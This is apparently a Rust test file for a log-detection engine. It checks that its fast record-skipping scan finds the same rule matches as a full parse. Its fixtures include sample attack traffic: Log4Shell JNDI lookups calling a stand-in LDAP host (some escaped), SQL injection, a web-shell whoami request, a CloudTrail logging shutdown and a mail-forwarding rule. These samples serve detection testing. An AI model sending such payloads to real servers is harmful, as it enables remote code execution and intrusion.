//! `bakas detect` passes over records in whose bytes no rule's text stands. What it finds must be
//! what it finds when every record is taken apart and every field looked through.

use std::{fs, ops::Range, path::Path};

use bakas_detect::{Context, LoadOptions, Loaded, Matcher, Rules, Shape};
use bakas_ingest::{Chunker, Decoder, Format, Sink, Verbatim};
use bakas_model::{Agency, Event, Location, Place, Reject, RuleIx, Source};
use bumpalo::Bump;

/// Counts and findings.
#[derive(Debug, Default, PartialEq)]
struct Outcome {
    events: u64,
    rejects: Vec<Reject>,
    found: Vec<(Place, RuleIx)>,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Way {
    /// Every record, every field.
    Long,
    /// Every record, but what its bytes told is believed.
    Told,
    /// Only the records that may matter.
    Short,
}

struct Looker<'a> {
    way: Way,
    matcher: Matcher<'a>,
    agency: &'a Agency,
    passed: u64,
    outcome: Outcome,
}

impl Sink for Looker<'_> {
    fn event(&mut self, event: &Event<'_>, _line: u64) {
        self.outcome.events += 1;
        let context =
            Context { location: Location::default(), operator: None, agency: self.agency };
        let matched = self.matcher.run(event, &context);
        self.outcome.found.extend(matched.iter().map(|&rule| (event.place, rule)));
    }
    fn reject(&mut self, reject: Reject) {
        self.outcome.rejects.push(reject);
    }
    fn wants(&mut self, record: Range<usize>) -> bool {
        let wanted = self.matcher.wants(record);
        self.way != Way::Short || wanted
    }
    fn doubt(&mut self) {
        self.matcher.doubt();
    }
    fn passed(&mut self, events: u64) {
        self.passed += events;
        self.outcome.events += events;
    }
}

fn look(rules: &Rules, format: Format, bytes: &[u8], way: Way) -> (Outcome, u64) {
    let agency = Agency::default();
    let (matcher, outcome) = (rules.matcher(), Outcome::default());
    let mut looker = Looker { way, matcher, agency: &agency, passed: 0, outcome };
    let mut decoder = Decoder::new(&Source::default(), format);
    let mut chunker = Chunker::new(format, bytes);
    let mut arena = Bump::new();
    while let Some(chunk) = chunker.next(Vec::new()).unwrap() {
        let law = format.verbatim().filter(|_| way != Way::Long);
        let shape =
            law.map(|Verbatim { streams, classes, is_whole }| Shape { streams, classes, is_whole });
        looker.matcher.screen(shape, chunk.base, &chunk.bytes);
        decoder.decode(&chunk, &arena, &mut looker);
        arena.reset();
    }
    (looker.outcome, looker.passed)
}

/// The rule files of a folder.
fn texts(folder: &Path, out: &mut Vec<(String, String)>) {
    let Ok(entries) = fs::read_dir(folder) else { return };
    for path in entries.map(|entry| entry.unwrap().path()) {
        if path.is_dir() {
            texts(&path, out);
        } else if path.extension().is_some_and(|extension| extension == "yml") {
            out.push((path.display().to_string(), fs::read_to_string(&path).unwrap()));
        }
    }
    out.sort();
}

fn house(path: &str) -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(path)
}

fn corpora() -> std::path::PathBuf {
    std::env::var_os("BAKAS_CORPORA").map_or_else(|| house("../shared/corpora"), Into::into)
}

fn loaded(folders: &[std::path::PathBuf]) -> Rules {
    told(folders).0
}

fn told(folders: &[std::path::PathBuf]) -> (Rules, Loaded) {
    let (mut files, mut pipelines) = (Vec::new(), Vec::new());
    folders.iter().for_each(|folder| texts(folder, &mut files));
    texts(&house("pipelines"), &mut pipelines);
    Rules::load_with(files, &LoadOptions { pipelines, ..LoadOptions::default() })
}

/// What scanners and intruders leave, in each format, with the escapes that may hide it.
const LINES: &str = r#"203.0.113.7 - - [17/May/2015:10:05:03 +0000] "GET /.git/config HTTP/1.1" 200 5 "-" "curl"
203.0.113.7 - - [17/May/2015:10:05:03 +0000] "GET /?x=${jndi:ldap://192.0.2.9/a} HTTP/1.1" 404 5 "-" "x"
203.0.113.7 - - [17/May/2015:10:05:04 +0000] "GET /?x=$\x7bjndi:ldap://192.0.2.9/a} HTTP/1.1" 404 5 "-" "sqlmap/1.7"
203.0.113.7 - - [17/May/2015:10:05:05 +0000] "GET /a.php?id=1%20UNION%20SELECT%201 HTTP/1.1" 200 5 "http://example.org/" "Nikto/2.5"
203.0.113.7 - - [17/May/2015:10:05:06 +0000] "GET /x.asp?cmd=WHOAMI HTTP/1.1" 200 5 "-" "-"
203.0.113.8 - - [17/May/2015:10:05:07 +0000] "GET /index.html HTTP/1.1" 200 5 "-" "Mozilla/5.0"
{"remote_addr":"203.0.113.7","time_local":"17/May/2015:10:05:03 +0000","request":"GET \/.git\/config HTTP/1.1","status":200}
{"remote_addr":"203.0.113.7","time_local":"17/May/2015:10:05:03 +0000","request":"GET /x?c=\u0024{jndi:ldap://192.0.2.9/} HTTP/1.1","status":200}
{"client_ip":"198.51.100.1","ts":1646861401.5,"method":"GET","path":"/x.asp","query":"cmd=whoami","status":200}
{"eventTime":"2023-07-10T11:45:00Z","eventSource":"ec2.amazonaws.com","eventName":"ModifyInstanceAttribute","requestParameters":{"attribute":"userData"},"userIdentity":{"type":"Root"}}
{"eventTime":"2023-07-10T11:45:00Z","eventSource":"ec2.amazonaws.com","eventName":"Modif\u0079InstanceAttribute","requestParameters":{"attribute":"userData"}}
{"eventTime":"2023-07-10T11:45:00Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}
{"kind":"k","id":{"time":"2022-08-15T16:24:44Z","applicationName":"admin"},"events":[{"type":"T","name":"GRANT_ADMIN_PRIVILEGE"},{"name":"DELETE_ROLE"}]}
{"CreationTime":"2024-01-05T08:00:00","Operation":"New-InboxRule","Workload":"Exchange","UserId":"ana@example.org","Parameters":[{"Name":"ForwardTo","Value":"x@example.net"}],"ResultStatus":"True"}
Jan  5 08:00:00 web1 sshd[7]: Failed password for ben from 203.0.113.7 port 51000 ssh2
"#;

const FORMATS: [Format; 5] =
    [Format::Combined, Format::CloudTrail, Format::Workspace, Format::M365, Format::WebJson];

/// Checks all ways and gives how many findings there were and how many events were passed over.
fn check(rules: &Rules, format: Format, bytes: &[u8]) -> (usize, u64) {
    let (long, none) = look(rules, format, bytes, Way::Long);
    assert_eq!(none, 0);
    for way in [Way::Told, Way::Short] {
        let (found, passed) = look(rules, format, bytes, way);
        let first = long.found.iter().zip(&found.found).find(|(a, b)| a != b);
        assert!(found == long, "{format:?} {way:?}: {first:?}: {}", bytes.escape_ascii());
        if way == Way::Short {
            return (long.found.len(), passed);
        }
    }
    unreachable!("the last way is the short one")
}

/// Small changes, the same in every run: bytes put in, taken out, their case turned.
fn changed(line: &str, turn: usize) -> Vec<u8> {
    let mut bytes = line.as_bytes().to_vec();
    let mut state = (turn as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    let mut next = |bound: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state % bound as u64) as usize
    };
    for _ in 0..turn % 4 {
        let at = next(bytes.len());
        match next(4) {
            0 => bytes[at] = b"\"\\{}%/?.[ aZ\xff"[next(13)],
            1 => bytes.insert(at, b"\"\\{}%/?.[ aZ\xff"[next(13)]),
            2 => drop(bytes.remove(at)),
            _ => bytes[at] ^= if bytes[at].is_ascii_alphabetic() { 0x20 } else { 0 },
        }
    }
    bytes
}

#[test]
fn what_is_passed_over_holds_no_finding() {
    let rules = loaded(&[house("rules"), corpora().join("sigma-rules")]);
    let mut found = 0;
    for format in FORMATS {
        found += check(&rules, format, LINES.as_bytes()).0;
        for (line, turn) in LINES.lines().flat_map(|line| (0..40).map(move |turn| (line, turn))) {
            check(&rules, format, &changed(line, turn));
        }
    }
    assert!(found > 20, "{found} findings");
}

#[test]
fn public_logs_give_the_same_both_ways() {
    let logs = corpora().join("logs");
    let files = [
        ("web-apache-elastic/apache_logs", Format::Combined),
        ("nginx-json-elastic/nginxplus_json_logs", Format::WebJson),
        ("google-workspace-invictus", Format::Workspace),
        ("aws-cloudtrail-invictus", Format::CloudTrail),
    ];
    let rules = loaded(&[corpora().join("sigma-rules")]);
    for (place, format) in files {
        let place = logs.join(place);
        let mut paths = vec![place.clone()];
        if let Ok(entries) = fs::read_dir(&place) {
            paths = entries.map(|entry| entry.unwrap().path()).collect();
        }
        for path in paths {
            let Ok(bytes) = fs::read(&path) else {
                std::io::Write::write_all(&mut std::io::stderr(), b"skipped: no corpus\n").unwrap();
                continue;
            };
            let (_, passed) = check(&rules, format, &bytes);
            if format == Format::Combined {
                assert!(passed > 9_000, "{passed} of 10,000 visitors' lines were passed over");
            }
        }
    }
}

/// Rules that were kept as bytes are the same rules: what became of each, what they find, and which
/// of them ask for fields that never occur.
#[test]
fn kept_rules_find_what_loaded_ones_find() {
    let (rules, account) = told(&[house("rules"), corpora().join("sigma-rules")]);
    let bytes = rules.to_bytes(&account).unwrap();
    let (kept, again) = Rules::from_bytes(bytes, &[]).unwrap();
    assert_eq!(kept.metas(), rules.metas());
    assert_eq!((again.counts, again.problems), (account.counts, account.problems));
    assert_eq!(*again.rules, *account.rules);
    let mut found = 0;
    for format in FORMATS {
        for (line, turn) in LINES.lines().flat_map(|line| (0..20).map(move |turn| (line, turn))) {
            let line = changed(line, turn);
            for way in [Way::Long, Way::Short] {
                let expected = look(&rules, format, &line, way);
                assert_eq!(look(&kept, format, &line, way), expected, "{}", line.escape_ascii());
                found += expected.0.found.len();
            }
        }
    }
    assert!(found > 100, "{found} findings");
    let apache = corpora().join("logs/web-apache-elastic/apache_logs");
    let Ok(bytes) = fs::read(apache) else {
        std::io::Write::write_all(&mut std::io::stderr(), b"skipped: no corpus\n").unwrap();
        return;
    };
    for way in [Way::Long, Way::Short] {
        let [one, other] = [&rules, &kept].map(|rules| look(rules, Format::Combined, &bytes, way));
        assert_eq!(one, other);
    }
}
